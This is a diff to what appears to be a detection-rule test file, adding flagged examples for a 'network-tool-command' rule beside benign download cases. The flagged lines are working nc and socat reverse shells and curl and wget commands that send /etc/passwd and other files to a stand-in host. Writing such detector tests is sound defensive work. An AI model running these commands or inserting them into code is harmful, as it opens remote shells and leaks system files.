@@ -218,3 +218,20 @@ os.dup2(conn3.fileno(), 1)
 for fd in (0, 1, 2):
     # ruleid: socket-to-stdio
     os.dup2(rs.fileno(), fd)
+
+# network-tool-command: raw network tools, and curl/wget sending data
+import subprocess
+# ruleid: network-tool-command
+subprocess.Popen(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
+# ruleid: network-tool-command
+subprocess.run(["/usr/bin/socat", "tcp:10.0.0.1:4444", "exec:sh"])
+# ruleid: network-tool-command
+subprocess.run(["curl", "-s", "-d", "@/etc/passwd", "https://x.example/c"])
+# ruleid: network-tool-command
+subprocess.run(["curl", "--upload-file", "notes.db", "https://x.example/u"], check=True)
+# ruleid: network-tool-command
+os.execvp("wget", ["wget", "--post-file=/tmp/dump", "https://x.example/c"])
+# ok: network-tool-command
+subprocess.run(["curl", "-fsSL", "-o", "data.csv", "https://data.example/d.csv"], check=True)
+# ok: network-tool-command
+subprocess.run(["wget", "-q", "https://data.example/d.csv"], check=True)
